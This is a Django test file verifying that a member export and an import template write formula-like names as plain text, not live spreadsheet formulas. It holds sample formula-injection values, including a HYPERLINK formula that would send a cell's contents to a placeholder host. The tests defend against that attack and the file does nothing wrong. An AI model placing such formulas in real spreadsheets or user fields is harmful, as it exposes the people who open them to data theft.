"""The member export and the import template hold data, never formulas (issue 15, item 1): a
member or an organisation named like a formula comes out as that text."""

import datetime as dt

from django.urls import reverse

from branches import imports
from branches.tests.factories import MemberFactory, OrganizationFactory
from branches.tests.workbooks import HOSTILE, assert_data_only


def test_names_notes_and_organisations_that_look_like_formulas_stay_text(en, superior, branch_a, superior_viewer):
    branch_a.name = HOSTILE[0]
    branch_a.save(update_fields=["name"])
    for text in HOSTILE:
        MemberFactory(organization=branch_a, full_name=text, occupation=text, notes=text)
    en.force_login(superior_viewer)
    response = en.get(reverse("member_export", kwargs={"pk": superior.pk}))
    assert response.status_code == 200
    assert_data_only(response.content)


def test_the_template_has_no_formula(en, superior, superior_viewer):
    en.force_login(superior_viewer)
    response = en.get(reverse("member_import_template", kwargs={"pk": superior.pk}))
    assert_data_only(response.content, texts=())


def test_an_exported_formula_like_name_imports_back_as_the_same_name():
    """The quote prefix is not part of the value: the export's text is the person's text."""
    names = ['=HYPERLINK("http://x/?"&A1,"click")', "+84 Nguyễn", "-Lê Văn A", "@Trần Thị B"]
    organization = OrganizationFactory.build(pk=7, name="-Chi bộ 1")
    members = [MemberFactory.build(organization=organization, full_name=name, notes=name) for name in names]
    ref = imports.OrgRef(organization.pk, organization.name, True)
    parsed = imports.parse_workbook(
        imports.write_members(members), organizations=imports.organization_index([ref]),
        default_organization=ref, today=dt.date(2026, 1, 1),
    )
    assert parsed.errors == []
    assert [(r.values["full_name"], r.values["notes"], r.organization) for r in parsed.rows] == [
        (name, name, ref) for name in names
    ]
